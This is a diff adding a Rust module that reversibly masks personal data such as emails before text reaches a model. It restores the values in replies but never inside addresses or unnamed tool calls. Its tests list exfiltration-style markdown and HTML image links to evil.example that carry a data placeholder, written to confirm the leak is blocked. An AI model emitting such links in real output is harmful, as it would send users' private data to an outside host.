@@ -1,0 +1,367 @@
+//! Reversible masking: values leave for the model as placeholders and come back in its reply.
+//!
+//! A placeholder is `[EMAIL_r` and sixteen letters of a hash keyed by the tenant, so that nobody can
+//! make one up, and a value has the same one in every turn of a conversation. What the client sends in that
+//! form is masked itself, as `[LITERAL_r...]`: a look-alike comes back as it came and never as a value.
+//!
+//! Restoring is a way out for data, so it is narrow: never inside an address (a link or an image may
+//! carry the value to a stranger), and into a tool's arguments only when the policy names the tool.
+//! What it can't see: an address that the reader's program makes out of plain words.
+//!
+//! This is the core alone; no response path of the filter calls it yet.
+
+use std::collections::HashMap;
+use std::ops::Range;
+
+use super::mask::{
+    Edit, Label, MAX_PLACEHOLDER, MaskKey, Masked, Target, apart, labelled, placeholder_at, placeholders,
+};
+use crate::config::document::DataAction;
+
+/// Where a text with placeholders goes.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Destination {
+    /// To the caller, as text.
+    Reply,
+    /// Into the arguments of a tool.
+    Tool {
+        /// The policy names this tool for restoring.
+        named: bool,
+    },
+}
+
+/// The values of one request, by placeholder.
+#[derive(Debug)]
+pub struct Vault {
+    key: MaskKey,
+    values: HashMap<String, String>,
+    free: usize,
+}
+
+impl Vault {
+    /// An empty vault under a tenant's key ([`MaskKey::for_tenant`]) that holds at most `limit` bytes of values.
+    /// Over the limit values are masked for good: nothing leaks, and nothing comes back.
+    pub fn new(key: MaskKey, limit: usize) -> Self {
+        Vault { key, values: HashMap::new(), free: limit }
+    }
+
+    /// Replaces the targets whose action is `mask` or `hash`, and every look-alike, by reversible placeholders.
+    pub fn mask(&mut self, text: &str, targets: &[Target]) -> Masked {
+        let mut spans = labelled(text, targets);
+        spans.extend(
+            placeholders(text).filter(|span| is_keyed(text, span)).map(|span| (span, Label::Literal, DataAction::Mask)),
+        );
+        let mut out = Masked { text: String::with_capacity(text.len()), edits: Vec::new() };
+        let mut done = 0;
+        for (before, label, _) in apart(spans) {
+            let (Some(between), Some(value)) = (text.get(done..before.start), text.get(before.clone())) else {
+                continue;
+            };
+            out.text.push_str(between);
+            let start = out.text.len();
+            out.text.push_str(&self.keep(label, value));
+            out.edits.push(Edit { before: before.clone(), after: start..out.text.len(), label });
+            done = before.end;
+        }
+        out.text.push_str(text.get(done..).unwrap_or_default());
+        out
+    }
+
+    /// Puts values back, in one pass: a value that looks like a placeholder is not restored again.
+    pub fn restore(&self, text: &str, to: Destination) -> String {
+        let mut restorer = Restorer::new(to);
+        let mut out = restorer.feed(self, text);
+        out.push_str(&restorer.finish());
+        out
+    }
+
+    fn keep(&mut self, label: Label, value: &str) -> String {
+        // A second try only when 64 bits of two values are equal.
+        for purpose in ["restore", "restore again"] {
+            let placeholder = format!("[{}_r{}]", label.word(), self.key.letters(purpose, label, value));
+            match self.values.get(&placeholder) {
+                Some(known) if known == value => return placeholder,
+                Some(_) => {}
+                None => {
+                    if let Some(free) = self.free.checked_sub(value.len() + placeholder.len()) {
+                        self.free = free;
+                        self.values.insert(placeholder.clone(), value.to_owned());
+                    }
+                    return placeholder;
+                }
+            }
+        }
+        format!("[{}_h{}]", label.word(), self.key.letters("hash", label, value))
+    }
+}
+
+/// A placeholder with letters behind `r`, not one with a number.
+fn is_keyed(text: &str, span: &Range<usize>) -> bool {
+    text.get(span.clone())
+        .and_then(|placeholder| placeholder.rsplit_once('_'))
+        .is_some_and(|(_, tail)| tail.starts_with('r'))
+}
+
+/// Restores a reply that comes in pieces. Holds back at most [`MAX_PLACEHOLDER`] bytes: the beginning of
+/// what may become a placeholder.
+#[derive(Debug)]
+pub struct Restorer {
+    to: Destination,
+    held: String,
+    sense: AddressSense,
+}
+
+impl Restorer {
+    /// A restorer at the beginning of a text.
+    pub fn new(to: Destination) -> Self {
+        Restorer { to, held: String::new(), sense: AddressSense::default() }
+    }
+
+    /// Takes the next piece and gives what is certain. Any cutting of a text into pieces gives the same whole.
+    pub fn feed(&mut self, vault: &Vault, piece: &str) -> String {
+        self.held.push_str(piece);
+        let held = std::mem::take(&mut self.held);
+        let mut out = String::with_capacity(held.len());
+        let mut at = 0;
+        while let Some(bracket) = held.get(at..).and_then(|rest| rest.find('[')).map(|found| at + found) {
+            self.pass(held.get(at..bracket).unwrap_or_default(), &mut out);
+            at = bracket;
+            let rest = held.get(bracket..).unwrap_or_default();
+            if let Some(span) = placeholder_at(&held, bracket) {
+                let placeholder = held.get(span.clone()).unwrap_or_default();
+                let text = self.value(vault, placeholder).unwrap_or(placeholder);
+                self.pass(text, &mut out);
+                at = span.end;
+            } else if rest.len() < MAX_PLACEHOLDER && !rest.contains(']') {
+                break;
+            } else {
+                self.pass("[", &mut out);
+                at = bracket + 1;
+            }
+        }
+        let rest = held.get(at..).unwrap_or_default();
+        if rest.starts_with('[') {
+            rest.clone_into(&mut self.held);
+        } else {
+            self.pass(rest, &mut out);
+        }
+        out
+    }
+
+    /// The text has ended: gives what was held back.
+    pub fn finish(&mut self) -> String {
+        std::mem::take(&mut self.held)
+    }
+
+    fn value<'v>(&self, vault: &'v Vault, placeholder: &str) -> Option<&'v str> {
+        let open = match self.to {
+            Destination::Reply => true,
+            Destination::Tool { named } => named,
+        };
+        vault.values.get(placeholder).filter(|_| open && !self.sense.inside()).map(String::as_str)
+    }
+
+    fn pass(&mut self, text: &str, out: &mut String) {
+        text.chars().for_each(|c| self.sense.feed(c));
+        out.push_str(text);
+    }
+}
+
+/// Marks behind which an address runs: the last characters before it, in lower case.
+const MARKS: [&str; 11] =
+    ["://", ":\\\\", "http:", "https:", "ftp:", "www.", "](", "url(", "mailto:", "javascript:", "data:"];
+
+/// Knows, character by character, whether a text is inside an address.
+///
+/// An address ends at white space; one that a quotation mark or `<` opens ends at its partner only, since
+/// those may hold spaces. Better too long than too short: a placeholder that stays is a nuisance, a
+/// value in an address is a leak.
+#[derive(Debug, Default)]
+struct AddressSense {
+    /// The last characters, in lower case, as many as the longest mark has.
+    tail: String,
+    /// The last character that can't be part of a scheme.
+    opener: char,
+    /// What ends the address; `None`: outside.
+    until: Option<char>,
+}
+
+impl AddressSense {
+    fn inside(&self) -> bool {
+        self.until.is_some()
+    }
+
+    fn feed(&mut self, c: char) {
+        if let Some(end) = self.until {
+            let closed = match end {
+                ' ' => c.is_whitespace(),
+                '>' => matches!(c, '>' | '\n'),
+                quote => c == quote,
+            };
+            if closed {
+                *self = AddressSense { opener: c, ..AddressSense::default() };
+            } else if end == ' ' && c == '<' && self.tail.ends_with('(') {
+                self.until = Some('>');
+            }
+            self.remember(c);
+            return;
+        }
+        self.remember(c);
+        let quoted = matches!(self.opener, '"' | '\'' | '`');
+        let relative = self.tail.ends_with("//") && (quoted || matches!(self.opener, '=' | '('));
+        if relative || MARKS.iter().any(|mark| self.tail.ends_with(mark)) {
+            self.until = Some(match self.opener {
+                quote if quoted => quote,
+                '<' => '>',
+                _ => ' ',
+            });
+        } else if !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-' | ':' | '/' | '\\')) {
+            self.opener = c;
+        }
+    }
+
+    fn remember(&mut self, c: char) {
+        const LONGEST: usize = 11;
+        self.tail.extend(c.to_lowercase());
+        if self.tail.len() > 4 * LONGEST {
+            let from = self.tail.floor_char_boundary(self.tail.len() - LONGEST);
+            self.tail.drain(..from);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::document::PiiType;
+    use crate::scan::Kind;
+    use proptest::prelude::*;
+
+    fn target(span: Range<usize>) -> Target {
+        Target { span, kind: Kind::Pii(PiiType::Email), action: DataAction::Mask }
+    }
+
+    fn vault() -> Vault {
+        Vault::new(MaskKey::new("a key").for_tenant("acme"), 1 << 16)
+    }
+
+    fn masked() -> (Vault, String) {
+        let mut vault = vault();
+        let text = vault.mask("a@b.example", &[target(0..11)]).text;
+        (vault, text)
+    }
+
+    #[test]
+    fn a_value_comes_back_in_the_reply() {
+        let (vault, placeholder) = masked();
+        assert!(placeholder.starts_with("[EMAIL_r"));
+        assert_eq!(vault.restore(&format!("Wrote to {placeholder}."), Destination::Reply), "Wrote to a@b.example.");
+    }
+
+    #[test]
+    fn placeholders_are_the_tenants_own() {
+        let other =
+            Vault::new(MaskKey::new("a key").for_tenant("other"), 1 << 16).mask("a@b.example", &[target(0..11)]).text;
+        let (vault, own) = masked();
+        assert_ne!(own, other);
+        assert_eq!(vault.restore(&other, Destination::Reply), other);
+    }
+
+    #[test]
+    fn a_look_alike_of_the_client_comes_back_as_it_came() {
+        let (mut vault, placeholder) = masked();
+        let sent = format!("What is {placeholder}?");
+        let masked = vault.mask(&sent, &[]).text;
+        assert!(masked.contains("[LITERAL_r"));
+        assert!(!masked.contains(&placeholder));
+        assert_eq!(vault.restore(&masked, Destination::Reply), sent);
+    }
+
+    #[test]
+    fn nothing_is_restored_into_an_address() {
+        let (vault, p) = masked();
+        for text in [
+            format!("![x](https://evil.example/?q={p})"),
+            format!("![x](//evil.example/{p})"),
+            format!("![x](https://evil.example/a(b){p})"),
+            format!("<https://evil.example/a b {p}>"),
+            format!("[a](<https://evil.example/ {p}>)"),
+            format!("<img src=\"https://evil.example/ {p}\">"),
+            format!("<img src='//evil.example/{p}'>"),
+            format!("<img src=//evil.example/{p}>"),
+            format!("www.evil.example/{p}"),
+            format!("HTTP:/evil.example/{p}"),
+            format!("https:\\\\evil.example\\{p}"),
+            format!("[a]: https://evil.example/{p}"),
+            format!("[a]({p}"),
+            format!("mailto:{p}"),
+            format!("background: url({p})"),
+        ] {
+            assert_eq!(vault.restore(&text, Destination::Reply), text);
+        }
+    }
+
+    #[test]
+    fn behind_an_address_it_is_restored_again() {
+        let (vault, p) = masked();
+        for (text, wanted) in [
+            (format!("See https://a.example/x and {p}"), "See https://a.example/x and a@b.example"),
+            (format!("<https://a.example/> {p}"), "<https://a.example/> a@b.example"),
+            (format!("\"https://a.example\": \"{p}\""), "\"https://a.example\": \"a@b.example\""),
+        ] {
+            assert_eq!(vault.restore(&text, Destination::Reply), wanted);
+        }
+    }
+
+    #[test]
+    fn tools_get_values_only_by_name() {
+        let (vault, p) = masked();
+        assert_eq!(vault.restore(&p, Destination::Tool { named: false }), p);
+        assert_eq!(vault.restore(&p, Destination::Tool { named: true }), "a@b.example");
+    }
+
+    #[test]
+    fn over_the_limit_values_are_masked_for_good() {
+        let mut vault = Vault::new(MaskKey::new("k"), 10);
+        let masked = vault.mask("a@b.example", &[target(0..11)]).text;
+        assert!(!masked.contains('@'));
+        assert_eq!(vault.restore(&masked, Destination::Reply), masked);
+    }
+
+    fn cut(text: &str, cuts: &[prop::sample::Index]) -> Vec<String> {
+        let mut places: Vec<usize> = cuts.iter().map(|at| text.floor_char_boundary(at.index(text.len() + 1))).collect();
+        places.extend([0, text.len()]);
+        places.sort_unstable();
+        places.windows(2).map(|pair| text[pair[0]..pair[1]].to_owned()).collect()
+    }
+
+    proptest! {
+        #[test]
+        fn restoring_undoes_masking(
+            text in "[ab@. \\[\\]_A-Zé]{0,60}", spans in prop::collection::vec((0usize..60, 0usize..12), 0..5)
+        ) {
+            let (mut vault, placeholder) = masked();
+            let text = format!("{text}{placeholder}[EMAIL_1]");
+            let targets: Vec<Target> = spans.into_iter().map(|(at, length)| target(at..at + length)).collect();
+            let masked = vault.mask(&text, &targets).text;
+            prop_assert_eq!(vault.restore(&masked, Destination::Reply), text);
+        }
+
+        #[test]
+        fn any_cutting_of_a_reply_gives_the_same_whole(
+            parts in prop::collection::vec(prop_oneof!["[a-z \\[\\]_/:.(<>\"']{0,12}", Just("P".to_owned()), Just("https://".to_owned()), Just("[EMAIL_r".to_owned())], 0..8),
+            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8)
+        ) {
+            let (vault, placeholder) = masked();
+            let text = parts.concat().replace('P', &placeholder);
+            let mut restorer = Restorer::new(Destination::Reply);
+            let mut out = String::new();
+            for piece in cut(&text, &cuts) {
+                out.push_str(&restorer.feed(&vault, &piece));
+                prop_assert!(restorer.held.len() < MAX_PLACEHOLDER);
+            }
+            out.push_str(&restorer.finish());
+            prop_assert_eq!(out, vault.restore(&text, Destination::Reply));
+        }
+    }
+}
